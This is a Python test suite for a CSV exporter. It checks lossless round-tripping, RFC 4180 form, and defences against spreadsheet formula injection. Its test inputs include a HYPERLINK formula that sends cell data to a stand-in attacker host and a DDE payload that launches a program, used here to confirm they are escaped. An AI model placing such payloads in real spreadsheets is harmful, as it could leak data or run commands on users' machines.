"""CSV: nothing is lost, and nothing in a cell runs."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from typing import Any, Iterator

import pytest

from core.examples import catalogue, record
from publisher.exports.csv_files import cell, csv_files
from publisher.exports.files import DataFile, data_files
from publisher.exports.publication import Publication
from publisher.records import COLLECTIONS

HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"Click\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "\ncmd", "＝1+1", "＠x", " =1+1", "'=1+1", "''-1", "' = 1",
    "'\tcmd", "'", "''", "it's", "O’Neill", "a=b", "1-2", "\"quoted\", with comma", "two\nlines", "two\r\nlines", "Ж 高强 é", "", "-", "=", "'",
]


def rows(text: str) -> list[dict[str, str]]:
    """A CSV file as another program reads it."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def original(found: str) -> str:
    """A text from its cell, by the rule that readers are told."""
    return found[1:] if re.match(r"'(?:['\s]*[=+\-@＝＋－＠]|'*[\t\r\n])", found) else found


def cells(fields: dict[str, Any], above: str = "") -> Iterator[tuple[str, str]]:
    """Column and cell of what stands in a record beside its lists of parts, said without the program's own plan."""
    for name, value in fields.items():
        column = f"{above}{name}"
        if isinstance(value, dict) and value and all(re.fullmatch("[a-z]{2}", key) for key in value):
            yield from ((f"{column}_{language}", text) for language, text in value.items())
        elif isinstance(value, dict):
            yield from cells(value, f"{column}.")
        elif isinstance(value, bool):
            yield column, "true" if value else "false"
        elif isinstance(value, list):
            if not (value and isinstance(value[0], dict)):
                yield column, "\n".join(value)
        else:
            yield column, str(value)


def lists(fields: dict[str, Any], above: str) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """The lists of parts of a record, with the names of their tables."""
    for name, value in fields.items():
        if isinstance(value, dict):
            yield from lists(value, f"{above}.{name}")
        elif isinstance(value, list) and value and isinstance(value[0], dict):
            yield f"{above}.{name}", value
            for part in value:
                yield from lists(part, f"{above}.{name}")


@pytest.mark.parametrize("name", COLLECTIONS)
def test_each_record_is_a_row_with_all_that_its_json_has(files: dict[str, DataFile], values: dict[str, Any], name: str) -> None:
    found = rows(files[f"{name}.csv"].content)
    records = values[f"{name}.json"]["records"]
    assert [row["id"] for row in found] == [each["id"] for each in records]
    for row, each in zip(found, records):
        assert {column: original(text) for column, text in row.items() if text} == {column: text for column, text in cells(each) if text}


@pytest.mark.parametrize("name", COLLECTIONS)
def test_each_part_of_a_list_is_a_row_of_a_further_table(files: dict[str, DataFile], values: dict[str, Any], name: str) -> None:
    expected: dict[str, list[tuple[str, dict[str, str]]]] = {}
    for each in values[f"{name}.json"]["records"]:
        for table, parts in lists(each, name):
            expected.setdefault(table, []).extend((each["id"], {column: text for column, text in cells(part) if text}) for part in parts)
    tables = {path.removesuffix(".csv"): rows(file.content) for path, file in files.items() if path.startswith(f"{name}.") and path.endswith(".csv")}
    found = {
        table: [(row[f"{name}.id"], {column: original(text) for column, text in row.items() if text and not column.startswith(f"{name}.")}) for row in content]
        for table, content in tables.items() if table != name and content
    }
    assert found == expected


def test_parts_of_parts_name_all_that_they_belong_to(files: dict[str, DataFile], values: dict[str, Any]) -> None:
    found = [(row["pillars.id"], row["pillars.agreed_lists.id"], row["id"]) for row in rows(files["pillars.agreed_lists.entries.csv"].content)]
    assert found == [
        (pillar["id"], agreed["id"], entry["id"])
        for pillar in values["pillars.json"]["records"] for agreed in pillar["agreed_lists"] for entry in agreed["entries"]
    ]


def test_parts_without_an_id_are_counted(files: dict[str, DataFile]) -> None:
    seats = rows(files["listings.seats.csv"].content)
    assert list(seats[0])[:2] == ["listings.id", "listings.seats.position"]
    assert seats and {row["listings.seats.position"] for row in seats if row["listings.id"] == "chosun-expo"} == {"1"}


def test_texts_have_a_column_for_each_language(files: dict[str, DataFile]) -> None:
    head = files["terms.csv"].content.split("\r\n")[0].split(",")
    assert head[:4] == ["id", "name_en", "name_fr", "name_de"]
    assert {"definition_en", "definition_fr", "definition_de", "pages_fr", "heading_de"} <= set(head)
    assert "birth.date" in files["listings.csv"].content.split("\r\n")[0] and "birth.place_en" in files["listings.csv"].content.split("\r\n")[0]


def test_the_form_of_the_files(files: dict[str, DataFile]) -> None:
    """RFC 4180: lines end in CR LF, every row has all cells, quotation marks where needed; UTF-8 without a mark."""
    for path, file in files.items():
        if not path.endswith(".csv"):
            continue
        assert file.content.endswith("\r\n") and not file.content.startswith("\ufeff")
        outside = re.sub(r'"(?:[^"]|"")*"', "", file.content)
        assert "\r\n" in outside and not re.search(r"(?<!\r)\n|\r(?!\n)|\"", outside), path
        table = list(csv.reader(io.StringIO(file.content, newline=""), strict=True))
        assert {len(row) for row in table} == {len(table[0])} and len(set(table[0])) == len(table[0]), path


def test_no_cell_of_the_real_files_runs(files: dict[str, DataFile]) -> None:
    for path, file in files.items():
        if path.endswith(".csv"):
            assert [text for row in csv.reader(io.StringIO(file.content, newline="")) for text in row if re.match(r"[\s=+\-@＝＋－＠]", text)] == [], path


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_does_not_run_and_comes_back(text: str) -> None:
    found = cell(text)
    assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", found)
    assert original(found) == text
    assert len(found) - len(text) in (0, 1)


@pytest.mark.parametrize(("value", "found"), [
    (-5, "-5"), (0, "0"), (2.5, "2.5"), (True, "true"), (False, "false"), (None, ""), ([], ""), (["a", "b"], "a\nb"), (["=a", "b"], "'=a\nb"), ([-1, 2], "'-1\n2"),
    ("a-b", "a-b"), ("2020-07-30", "2020-07-30"),
])
def test_cells(value: Any, found: str) -> None:
    assert cell(value) == found


def test_hostile_records_are_read_back_whole(publication: Publication) -> None:
    """Values as an attacker would put them into a record, through the whole way to the file and back."""
    name, note = '=cmd|"/C calc"!A0', "@SUM(1+1)*cmd, \"quoted\"\n\nsecond; paragraph"
    hostile = record(
        "listings", name=name, aliases=["+49 30", "-x", 'a "b", c'], note=note, other_spellings=["'=x"], seats=[{"country": "RU", "town": "=1+1"}, {"country": "KP"}],
        changes=[{"id": "one", "date": "2021", "text": "-2+3"}],
    )
    toy = replace(publication, content=replace(publication.content, catalogue=catalogue(hostile)))
    files = data_files(csv_files(toy))
    row = rows(files["listings.csv"].content)[0]
    assert row["name"] == f"'{name}" and row["note_en"] == f"'{note}" and row["aliases"] == "'+49 30\n-x\na \"b\", c" and row["other_spellings"] == "''=x"
    assert original(row["name"]) == name and original(row["note_en"]) == note and original(row["aliases"]).split("\n") == ["+49 30", "-x", 'a "b", c']
    assert rows(files["listings.changes.csv"].content)[0]["text_en"] == "'-2+3"
    assert [(seat["listings.seats.position"], seat["country"], seat["town_en"]) for seat in rows(files["listings.seats.csv"].content)] == [("1", "RU", "'=1+1"), ("2", "KP", "")]


def test_official_names_in_further_languages_get_a_column(publication: Publication) -> None:
    body = record("bodies", name={"en": "Council", "fr": "Conseil", "sv": "rådet", "bg": "Съвет"})
    toy = replace(publication, content=replace(publication.content, catalogue=catalogue(body)))
    head = data_files(csv_files(toy))["bodies.csv"].content.split("\r\n")[0].split(",")
    assert [name for name in head if name.startswith("name_")] == ["name_en", "name_fr", "name_de", "name_bg", "name_sv"]
